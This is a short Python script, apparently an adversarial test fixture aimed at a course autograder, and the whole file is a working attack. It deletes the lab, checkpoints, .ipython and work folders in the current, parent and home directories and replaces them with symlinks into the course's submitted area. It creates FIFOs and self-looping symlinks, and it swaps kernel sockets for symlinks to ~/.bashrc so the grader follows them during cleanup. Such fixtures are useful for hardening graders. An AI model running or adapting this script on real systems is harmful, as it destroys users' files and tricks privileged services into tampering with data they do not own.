"""Replaces its own folders and sockets by links and special files, for the grader to follow when it cleans up or looks."""

import os
import shutil
import sys
from contextlib import suppress
from pathlib import Path

from attacker import COURSE, HOME

for name in ("lab", "checkpoints", ".ipython", "work"):
    for place in (Path.cwd(), Path.cwd().parent, Path.home()):
        path = place / name
        with suppress(OSError):
            shutil.rmtree(path, ignore_errors=True)
            path.symlink_to(Path(COURSE, "submitted"))
for number in range(20):
    with suppress(OSError):
        os.mkfifo(f"fifo{number}")
        Path(f"to{number}").symlink_to(f"to{number}")
sockets = Path(sys.argv[-1]).parent
for path in [*sockets.glob("k-*"), *sockets.glob("*/k-*")]:
    with suppress(OSError):
        path.rename(path.with_suffix(".moved"))
        path.symlink_to(Path(HOME, ".bashrc"))
